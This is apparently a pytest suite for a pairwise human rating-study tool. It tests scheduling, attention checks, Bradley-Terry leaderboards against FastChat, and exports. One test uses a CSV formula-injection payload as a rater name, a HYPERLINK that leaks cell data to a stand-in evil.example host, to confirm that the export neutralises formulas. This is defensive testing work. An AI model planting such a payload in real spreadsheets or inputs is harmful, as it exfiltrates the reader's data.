"""Rating studies without a server: the design's checks, the scheduler's rules in a real SQLite
file, the analysis against FastChat's own code, and pre-generation with the bundled model."""
import csv
import io
import json
import random
import threading

import numpy as np
import pytest

from studies import design
from studies.export import battles, to_csv, to_jsonl
from studies.leaderboard import agreement, attention, leaderboard, list_lines, position_bias, ratings
from fields import Refused
from user_store import AlreadyVoted, BadLink, NotIssued, UserStore
from costeer.engine.spec import DecodeSpec

LABELS = ["unsteered", "gentle", "paper", "strong"]
DECODING = {"temperature": 0.0, "top_p": 1.0, "seed": None, "max_new_tokens": 16, "repetition_penalty": 1.1,
            "no_repeat_ngram_size": 4}


# -- design ------------------------------------------------------------------------------------
def test_a_setting_takes_the_chat_tabs_ranges_and_names_what_is_wrong():
    s = design.setting_from({"lam": 0.5, "label": "gentle"}, DECODING, "settings[0]")
    assert s.config["T"] == 20 and s.config["lam"] == 0.5 and s.config["max_new_tokens"] == 16 and s.gate is None
    assert s.strength == pytest.approx(969, rel=1e-3) and s.sampling.repetition_penalty == 1.1
    gated = design.setting_from({"gate": True}, DECODING, "x")
    assert gated.gate.threshold == 0.1 and gated.label.endswith("gated")
    for raw, message in (({"lam": 9}, r"settings\[1\]\.lam: must be a number in \[0.1, 5\], got 9"),
                         ({"T": 2.5}, r"settings\[1\]\.T: must be an integer"),
                         ({"lam": 10**400}, r"settings\[1\]\.lam: must be a number in \[0.1, 5\], got an integer of "
                                            r"about 401 digits"),
                         ({"gate": "yes"}, r"settings\[1\]\.gate: must be"),
                         ({"label": 5}, r"settings\[1\]\.label: must be text"),
                         ({"zeta": 1}, r"settings\[1\]: unknown key\(s\) zeta"),
                         ({"label": "unsteered"}, "the baseline's"), (5, "must be an object")):
        with pytest.raises(Refused, match=message):
            design.setting_from(raw, DECODING, "settings[1]")
    assert design.parse_settings_text("T=20 eta=10 lam=2\n\nlam=0.5, label=gentle") == [
        {"T": 20, "eta": 10, "lam": 2}, {"lam": 0.5, "label": "gentle"}]
    with pytest.raises(Refused, match="settings line 1: 'lam' is not key=value"):
        design.parse_settings_text("lam")
    settings = [design.baseline(DECODING), s, gated]
    assert design.pairs_of(settings, False) == [(0, 1), (0, 2)]
    assert design.pairs_of(settings, True) == [(0, 1), (0, 2), (1, 2)]


# -- the store's rules -------------------------------------------------------------------------
def make_study(store, personas=3, prompts=4, attention_every=6, pairs_per_rater=0, answered=True, raters=12):
    items = [{"persona": f"persona {p}", "prompt": f"prompt {q}", "card": f"card {p}"}
             for p in range(personas) for q in range(prompts)]
    settings = [{"label": label, "baseline": label == "unsteered", "config": {}} for label in LABELS]
    sid = store.studies.create("s", "judge", items, settings, [(0, 1), (0, 2), (0, 3)], all_pairs=False,
                               pairs_per_rater=pairs_per_rater, attention_every=attention_every)
    if answered:
        for p in store.studies.pending(sid):
            # longer, more bulleted answers for later settings: style control has something to remove
            store.studies.add_answer(p["item_id"], p["setting_id"], "- point\n" * (p["setting_id"] % 4) + "text",
                                     4 + 6 * (p["setting_id"] % 4))
        store.studies.set_status(sid, "ready")
    links = store.studies.add_raters(sid, [f"r{i}" for i in range(raters)])
    return sid, links


def test_each_rater_gets_every_pair_once_balanced_with_swapped_attention_checks(tmp_path):
    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store)
    rng = random.Random(0)
    seen = {}
    for link in links:
        rater = store.studies.rater(sid, link["token"])
        while "issue" in (p := store.studies.next_pair(rater, rng)):
            assert store.studies.next_pair(rater, rng)["issue"] == p["issue"]  # a reload shows the same pair
            store.studies.vote(rater, p["issue"], rng.choice(["A", "B", "tie"]))
        assert p == {"done": True, "rated": 36, "target": 36}
    rows = store.studies.votes(sid)
    first = [r for r in rows if r["attention_of"] is None]
    repeats = [r for r in rows if r["attention_of"] is not None]
    assert len(first) == 12 * 36 and len(repeats) == 12 * 6  # one check after every 6 first-time votes
    for r in links:
        mine = [(v["pair_id"]) for v in first if v["rater"] == r["name"]]
        assert len(mine) == len(set(mine)) == 36  # never the same pair twice
    by_issue = {r["issue"]: r for r in rows}
    for r in repeats:
        o = by_issue[r["attention_of"]]
        assert r["pair_id"] == o["pair_id"] and r["rater"] == o["rater"] and r["left_setting"] != o["left_setting"]
    for pair in {r["pair_id"] for r in first}:
        shown = [r["left_setting"] == r["setting_a"] for r in first if r["pair_id"] == pair]
        assert len(shown) == 12 and sum(shown) == 6  # each order shown to half the raters


def test_votes_only_for_issued_pairs_once_and_links_only_for_their_study(tmp_path):
    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, raters=2)
    other, other_links = make_study(store, raters=1)
    rng = random.Random(1)
    rita, bo = (store.studies.rater(sid, link["token"]) for link in links)
    p = store.studies.next_pair(rita, rng)
    with pytest.raises(NotIssued, match=f"pair #{p['issue']} was not issued to this rater link"):
        store.studies.vote(bo, p["issue"], "A")  # someone else's pair
    with pytest.raises(NotIssued):
        store.studies.vote(rita, 10**9, "A")  # a pair nobody was issued
    reveal = store.studies.vote(rita, p["issue"], "B")
    assert {reveal["A"], reveal["B"]} <= set(LABELS) and "unsteered" in (reveal["A"], reveal["B"])
    with pytest.raises(AlreadyVoted, match="votes are final"):
        store.studies.vote(rita, p["issue"], "A")  # a replay
    with pytest.raises(BadLink):
        store.studies.rater(sid, other_links[0]["token"])  # another study's link
    with pytest.raises(BadLink):
        store.studies.rater(sid, "guessed-token")
    assert [v["choice"] for v in store.studies.votes(sid)] == ["B"] and store.studies.votes(other) == []
    assert store.db["study_raters"].count_where("token_hash = ?", [links[0]["token"]]) == 0  # looked up by hash


def test_waiting_while_generating_and_a_cap_per_rater(tmp_path):
    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, answered=False, pairs_per_rater=2, raters=1)
    rater = store.studies.rater(sid, links[0]["token"])
    assert store.studies.next_pair(rater, random.Random(0)) == {"waiting": True, "rated": 0, "target": 2}
    for p in store.studies.pending(sid)[:4]:  # the first item's four answers
        store.studies.add_answer(p["item_id"], p["setting_id"], "x", 1)
    for _ in range(2):
        p = store.studies.next_pair(rater, random.Random(0))
        store.studies.vote(rater, p["issue"], "tie")
    assert store.studies.next_pair(rater, random.Random(0))["done"]


def test_twelve_raters_at_once_never_share_a_slot(tmp_path):
    """Threads against one store, as Gradio's workers are: each issue and vote in one transaction."""
    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, attention_every=0)
    errors, acked = [], []

    def rate(link, seed):
        try:
            rng = random.Random(seed)
            rater = store.studies.rater(sid, link["token"])
            while "issue" in (p := store.studies.next_pair(rater, rng)):
                acked.append(store.studies.vote(rater, p["issue"], "A")["vote"])
        except Exception as exc:  # noqa: BLE001 (reported below)
            errors.append(repr(exc))

    threads = [threading.Thread(target=rate, args=(link, i)) for i, link in enumerate(links)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert errors == [] and len(acked) == 12 * 36
    assert sorted(v["vote"] for v in store.studies.votes(sid)) == sorted(acked)
    (dups,) = store.db.execute("SELECT count(*) FROM (SELECT rater_id, pair_id FROM study_issues "
                               "GROUP BY rater_id, pair_id HAVING count(*) > 1)").fetchone()
    assert dups == 0


# -- the analysis ------------------------------------------------------------------------------
def synthetic(n=600, seed=0, strength=None, length_wins=False):
    rng = random.Random(seed)
    strength = strength or {"unsteered": 0.0, "gentle": 0.3, "paper": 0.8, "strong": -0.5}
    out = []
    for i in range(n):
        a, b = rng.sample(LABELS, 2)
        ta, tb = rng.randint(5, 60), rng.randint(5, 60)
        z = (2.0 * (ta - tb) / (ta + tb)) if length_wins else strength[a] - strength[b]
        u = rng.random()
        p = 1 / (1 + np.exp(-z))
        winner = "model_a" if u < p * 0.85 else "model_b" if u < 0.85 else rng.choice(["tie", "tie (bothbad)"])
        out.append({"model_a": a, "model_b": b, "winner": winner, "judge": f"j{i % 5}", "tstamp": 1.7e9 + i,
                    "anony": True, "question_id": i // 5, "first": min(a, b), "persona": f"p{i % 3}", "issue": i,
                    "attention_of": None, "tokens_a": ta, "tokens_b": tb, "lists_a": 0, "lists_b": 0})
    return out


def test_bradley_terry_equals_fastchats_fit():
    """FastChat's compute_elo_mle_with_tie (scikit-learn) on the same battles: the same ratings."""
    pd = pytest.importorskip("pandas")
    elo = pytest.importorskip("fastchat.serve.monitor.elo_analysis", reason="scripts/install.sh --test installs fschat")
    rows = synthetic()
    ours = ratings(rows, LABELS, "unsteered", rounds=10)["scores"]
    theirs = elo.compute_elo_mle_with_tie(pd.DataFrame(rows))
    for name in LABELS:
        assert ours[name]["score"] == pytest.approx(theirs[name] - theirs["unsteered"] + 1000, abs=0.5)
    assert ours["paper"]["score"] > ours["gentle"]["score"] > 1000 > ours["strong"]["score"]


def test_intervals_cover_and_style_control_removes_a_length_effect():
    rows = synthetic(n=800)
    lb = leaderboard(rows, LABELS, "unsteered", rounds=1000)
    for s in lb["plain"]["scores"].values():
        assert s["low"] <= s["score"] <= s["high"]
    paper = lb["plain"]["scores"]["paper"]
    assert 1000 < paper["low"]  # a true effect of 0.8 nats is found with 800 battles
    # Raters who only ever prefer the longer answer, and a setting that writes longer answers:
    rows = synthetic(n=800, seed=3, length_wins=True)
    for r in rows:
        for side in ("a", "b"):
            if r[f"model_{side}"] == "strong":
                r[f"tokens_{side}"] += 40
        r["winner"] = "model_a" if r["tokens_a"] > r["tokens_b"] else "model_b"
    lb = leaderboard(rows, LABELS, "unsteered", rounds=200)
    plain = lb["plain"]["scores"]["strong"]["score"] - 1000
    styled = lb["style_controlled"]["scores"]["strong"]["score"] - 1000
    assert plain > 150 and abs(styled) < plain / 3 and lb["style_controlled"]["style"]["length"] > 1


def test_position_bias_agreement_and_attention_checks():
    always_a = [{**r, "winner": "model_a"} for r in synthetic(n=100)]
    assert position_bias(always_a)["a_share"] == 1.0 and position_bias(always_a)["low"] > 0.9
    same = []
    for q in range(10):  # three raters who agree on every pair, shown in either order
        for j, flip in (("x", False), ("y", True), ("z", False)):
            a, b = ("gentle", "unsteered") if not flip else ("unsteered", "gentle")
            winner = "model_a" if (a == "gentle") == (q % 2 == 0) else "model_b"
            same.append({"question_id": q, "judge": j, "model_a": a, "model_b": b, "first": "gentle", "winner": winner})
    assert agreement(same)["alpha"] == pytest.approx(1.0) and agreement(same)["pairs"] == 10
    assert agreement(same[:3])["alpha"] is None  # one shared pair is not enough
    first = [{**same[0], "issue": 1}, {**same[2], "issue": 2, "judge": "z"}]
    steady = {**same[1], "judge": "x", "issue": 3, "attention_of": 1}  # same judgement, sides swapped
    flipped = {**same[0], "judge": "z", "issue": 4, "attention_of": 2,
               "winner": "model_b" if same[2]["winner"] == "model_a" else "model_a"}
    checks = attention(first, [steady, flipped])
    assert checks["checks"] == 2 and checks["passed"] == 1 and checks["flagged"] == ["z"]


def test_list_lines_counts_markup():
    assert list_lines("1. one\n2) two\n- three\n* four\n• five\nplain") == 5


# -- exports -----------------------------------------------------------------------------------
def test_the_export_is_fastchat_battles_that_fastchat_reads(tmp_path):
    elo = pytest.importorskip("fastchat.serve.monitor.elo_analysis", reason="scripts/install.sh --test installs fschat")
    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, raters=4)
    rng = random.Random(2)
    for link in links:
        rater = store.studies.rater(sid, link["token"])
        while "issue" in (p := store.studies.next_pair(rater, rng)):
            store.studies.vote(rater, p["issue"], rng.choice(["A", "A", "B", "tie", "both_bad"]))
    rows = battles(store.studies.votes(sid))
    lines = [json.loads(line) for line in to_jsonl(rows).splitlines()]
    assert {b["winner"] for b in lines} == {"model_a", "model_b", "tie", "tie (bothbad)"}
    report = elo.report_elo_analysis_results(lines, rating_system="bt", num_bootstrap=20)
    fc = report["elo_rating_final"]
    first = [b for b in lines if b["attention_of"] is None]
    ours = ratings(first, LABELS, "unsteered", rounds=10)["scores"]
    assert set(fc.index) == set(LABELS)
    # FastChat fits every battle, attention repeats included; on the first votes alone they agree:
    fc_first = elo.compute_elo_mle_with_tie(__import__("pandas").DataFrame(first))
    for name in LABELS:
        assert ours[name]["score"] == pytest.approx(fc_first[name] - fc_first["unsteered"] + 1000, abs=0.5)


def test_the_csv_export_carries_no_formulas(tmp_path):
    store = UserStore(tmp_path / "s.db")
    sid, _ = make_study(store, personas=1, prompts=1, raters=0)
    [link] = store.studies.add_raters(sid, ['=HYPERLINK("http://evil.example/?d="&B2,"open")'])
    rater = store.studies.rater(sid, link["token"])
    store.studies.vote(rater, store.studies.next_pair(rater, random.Random(0))["issue"], "A")
    [row] = list(csv.DictReader(io.StringIO(to_csv(battles(store.studies.votes(sid))))))
    assert row["judge"].startswith("'=HYPERLINK")
    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]  # "- point" became "'- point"


# -- pre-generation with the bundled model -------------------------------------------------------
@pytest.mark.slow
def test_pregeneration_batches_dedupes_equal_strengths_and_resumes(engine, tmp_path):
    from studies.pregenerate import Pregenerator

    store = UserStore(tmp_path / "s.db")
    store.import_file("assets/personas/kenji_osaka.json")
    kenji = store.users()[0]
    chosen = [design.baseline(DECODING),
              design.setting_from({"lam": 2, "label": "paper"}, DECODING, "s"),
              design.setting_from({"lam": 2.0, "label": "same C"}, DECODING, "s"),
              design.setting_from({"lam": 4, "label": "mild"}, DECODING, "s")]
    items = [{"persona": kenji, "prompt": q, "card": "c"} for q in ("Plan my Friday evening", "What should I cook?")]
    sid = store.studies.create("s", "judge", items, [{"label": s.label, "baseline": s.baseline, "config": s.config}
                                                      for s in chosen], design.pairs_of(chosen, False),
                               all_pairs=False, pairs_per_rater=0, attention_every=0)
    context = lambda user, message: store.build_context(user, message, max_tokens=128)  # noqa: E731
    pregen = Pregenerator(engine, store, context)
    pregen.generate(sid)  # the worker's body, run in this thread
    answers = {(r["item_id"], r["setting_id"]): r for r in store.db["study_answers"].rows}
    assert len(answers) == 8 and store.studies.pending(sid) == []
    ids = [s["id"] for s in store.studies.settings(sid)]
    for item in {k[0] for k in answers}:
        assert answers[item, ids[1]]["text"] == answers[item, ids[2]]["text"]  # equal C: one answer for both
        assert answers[item, ids[1]]["text"] != answers[item, ids[3]]["text"]
    first = min(k[0] for k in answers)
    spec = DecodeSpec("unsteered", chosen[0].params, chosen[0].sampling)
    alone = engine.generate([{"role": "user", "content": items[0]["prompt"]}], "", spec)["shown"]["unsteered"]
    assert answers[first, ids[0]]["text"] == alone  # the baseline from the shared pass is the cloud's own answer
    store.db["study_answers"].delete_where("setting_id = ?", [ids[3]])  # as if a restart came mid-way
    pregen.generate(sid)
    assert len(list(store.db["study_answers"].rows)) == 8 and store.studies.pending(sid) == []


def test_settings_the_fluency_check_flags_are_marked_and_refused_unless_asked():
    chosen = [design.setting_from(raw, DECODING, f"settings[{i}]")
              for i, raw in enumerate([{"lam": 2}, {"lam": 0.5, "label": "salad"}, {"lam": 1.8}])]
    assert [s.label for s in design.flagged(chosen)] == ["salad", "T=20 η=10 λ=1.8"]  # C = 969 and 2.36
    with pytest.raises(Refused, match=r"settings: salad \(C = 969\); T=20 η=10 λ=1.8 \(C = 2.36\) fails"):
        design.refuse_flagged(chosen)
    design.refuse_flagged(chosen[:1])  # the paper's C = 1.78 passes
    note = design.fluency_note("lam=2\nlam=0.5 label=salad")
    assert "C = 1.78 ✓" in note and "**salad**: C = 969 ⚠️" in note and "tick the box" in note
    assert "tick" not in design.fluency_note(design.DEFAULT_SETTINGS)  # the defaults all pass


def test_the_count_includes_attention_checks_and_the_reveal_waits_for_the_last_vote(tmp_path):
    from ui.studies import StudyDesk, end_note, progress_line

    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, personas=1, prompts=2, attention_every=3, raters=1)  # 6 pairs + 2 checks
    desk = StudyDesk(store, pregen=None, cloud_model="c", local_model="d")
    token = links[0]["token"]
    shown = []
    while "pair" in (p := desk.next_pair(sid, token)):
        shown.append(progress_line(p))
        said = desk.vote(sid, token, p["pair"], "A")
        assert set(said) == {"vote", "saved"}  # blind: no setting named before the end
    assert shown == [f"Pair {i} of 8" for i in range(1, 9)]  # the count never stalls on a repeat
    assert p["done"] and [(r["vote"], {r["A"], r["B"]} <= set(LABELS)) for r in p["reveal"]] == [("A", True)] * 6
    assert "Which setting made which answer" in end_note(p) and "unsteered" in end_note(p)
    store.db.execute("UPDATE studies SET reveal = 'never' WHERE id = ?", [sid])
    assert "reveal" not in desk.next_pair(sid, token)  # the organizer chose never


def test_a_study_closed_before_any_answer_does_not_thank_its_raters_for_nothing(tmp_path):
    from ui.studies import StudyDesk, end_note

    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, answered=False, raters=1)
    store.studies.set_status(sid, "cancelled")
    out = StudyDesk(store, pregen=None, cloud_model="c", local_model="d").next_pair(sid, links[0]["token"])
    assert out["done"] and out["closed"] and "closed by its organizer" in end_note(out) and "thank" not in end_note(out)


def test_the_organizers_desk_lists_each_raters_link_progress_and_time_and_a_revoked_link_is_refused(tmp_path):
    from ui.studies import StudyDesk

    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, personas=1, prompts=2, attention_every=0, raters=2)
    desk = StudyDesk(store, pregen=None, cloud_model="c", local_model="d")
    rita, bo = links
    for _ in range(2):
        p = desk.next_pair(sid, rita["token"])
        desk.vote(sid, rita["token"], p["pair"], "A")
    rows = {r["name"]: r for r in StudyDesk(store, pregen=None).raters(sid)}  # a fresh desk: as after a reload
    assert rows["r0"]["link"] == f"/study/?study={sid}&rater={rita['token']}"  # the link, copyable again
    assert (rows["r0"]["votes"], rows["r0"]["target"], rows["r1"]["votes"]) == (2, 6, 0)
    assert rows["r0"]["median_s_per_vote"] >= 0 and rows["r0"]["last_seen"] and rows["r1"]["last_seen"] is None
    assert desk.revoke_rater(sid, "r0")["revoked"]
    with pytest.raises(BadLink, match="revoked"):
        desk.next_pair(sid, rita["token"])
    assert [r["revoked"] for r in desk.raters(sid)] == [True, False] and len(store.studies.votes(sid)) == 2
    with pytest.raises(BadLink, match="no rater named 'ghost'"):
        desk.revoke_rater(sid, "ghost")
    assert "pair" in desk.next_pair(sid, bo["token"])  # the other link still works


def test_a_skip_is_not_a_vote_and_the_pair_is_not_issued_again(tmp_path):
    store = UserStore(tmp_path / "s.db")
    sid, links = make_study(store, personas=1, prompts=2, attention_every=0, raters=1)  # 6 pairs
    rater = store.studies.rater(sid, links[0]["token"])
    rng = random.Random(0)
    first = store.studies.next_pair(rater, rng)
    store.studies.skip(rater, first["issue"])
    with pytest.raises(AlreadyVoted):
        store.studies.vote(rater, first["issue"], "A")  # a skipped pair takes no vote afterwards
    seen = []
    while "issue" in (p := store.studies.next_pair(rater, rng)):
        seen.append(p["issue"])
        store.studies.vote(rater, p["issue"], "B")
    assert first["issue"] not in seen and len(seen) == 5 and p == {"done": True, "rated": 5, "target": 6}
    assert len(store.studies.votes(sid)) == 5  # the skip is not among the votes


def test_overlap_caps_the_raters_per_pair(tmp_path):
    store = UserStore(tmp_path / "s.db")
    items = [{"persona": "p", "prompt": "q", "card": "c"}]
    settings = [{"label": label, "baseline": label == "unsteered", "config": {}} for label in LABELS]
    sid = store.studies.create("s", "judge", items, settings, [(0, 1), (0, 2), (0, 3)], all_pairs=False,
                               pairs_per_rater=0, attention_every=0, overlap=2)
    for p in store.studies.pending(sid):
        store.studies.add_answer(p["item_id"], p["setting_id"], "text", 1)
    store.studies.set_status(sid, "ready")
    rng = random.Random(0)
    for link in store.studies.add_raters(sid, ["a", "b", "c"]):
        rater = store.studies.rater(sid, link["token"])
        while "issue" in (p := store.studies.next_pair(rater, rng)):
            store.studies.vote(rater, p["issue"], "A")
    per_pair = {}
    for v in store.studies.votes(sid):
        per_pair[v["pair_id"]] = per_pair.get(v["pair_id"], 0) + 1
    assert sorted(per_pair.values()) == [2, 2, 2]  # 3 raters, 3 pairs, 2 raters each: 6 votes, not 9


def test_silent_attention_checks_pit_the_cards_answer_against_another_personas(tmp_path):
    store = UserStore(tmp_path / "s.db")
    items = [{"persona": p, "prompt": "Plan my weekend", "card": f"card of {p}"} for p in ("ana", "bo")]
    settings = [{"label": label, "baseline": label == "unsteered", "config": {}} for label in LABELS]
    sid = store.studies.create("s", "judge", items, settings, [(0, 1), (0, 2), (0, 3)], all_pairs=False,
                               pairs_per_rater=0, attention_every=2)
    texts = {}
    for p in store.studies.pending(sid):
        persona = store.studies.store.db["study_items"].get(p["item_id"])["persona"]
        texts[(persona, p["setting_id"])] = f"{persona}'s answer from setting {p['setting_id']}"
        store.studies.add_answer(p["item_id"], p["setting_id"], texts[(persona, p["setting_id"])], 5)
    store.studies.set_status(sid, "ready")
    rng = random.Random(0)
    for name, careful in (("careful", True), ("careless", False)):
        (link,) = store.studies.add_raters(sid, [name])
        rater = store.studies.rater(sid, link["token"])
        while "issue" in (p := store.studies.next_pair(rater, rng)):
            assert set(p) == {"issue", "persona", "card", "prompt", "A", "B", "rated", "target", "answered", "total"}
            mine = p["A"].startswith(p["persona"]) and not p["B"].startswith(p["persona"])
            theirs = p["B"].startswith(p["persona"]) and not p["A"].startswith(p["persona"])
            if mine or theirs:  # a silent check: one side was written for the other persona
                choice = ("A" if mine else "B") if careful else ("B" if mine else "A")
            else:
                choice = "A"
            store.studies.vote(rater, p["issue"], choice)
    votes = store.studies.votes(sid)
    checks = [v for v in votes if v["attention_of"] is not None]
    assert checks and all(v["decoy_item"] is not None for v in checks)  # silent, not swapped repeats
    at = attention([b for b in battles(votes) if b["attention_of"] is None],
                   [b for b in battles(votes) if b["attention_of"] is not None])
    assert at["raters"]["careful"]["rate"] == 1.0 and at["raters"]["careless"]["rate"] == 0.0
    assert at["flagged"] == ["careless"]


@pytest.mark.parametrize("option, bad, said", [
    ("overlap", 10**30, "overlap: must be an integer in [0, 1000], got an integer of about 31 digits"),
    ("overlap", -1, "overlap: must be an integer in [0, 1000], got -1"),
    ("reveal", "later", "reveal: must be one of end, never, got 'later'"),
    ("consent", "x" * 4001, "consent: at most 4000 characters"),
    ("completion_code", ["c"], "completion_code: must be text"),
    ("include_flagged", "yes", "include_flagged: must be true or false"),
])
def test_the_new_study_options_are_refused_by_name_and_nothing_is_written(tmp_path, option, bad, said):
    from ui.studies import StudyDesk

    store = UserStore(tmp_path / "s.db")
    store.add_user("ana")
    desk = StudyDesk(store, pregen=None)
    with pytest.raises(Refused) as err:
        desk.create_study("s", ["ana"], ["hi"], [{"lam": 2}], **{option: bad})
    assert said in str(err.value) and store.studies.studies() == []
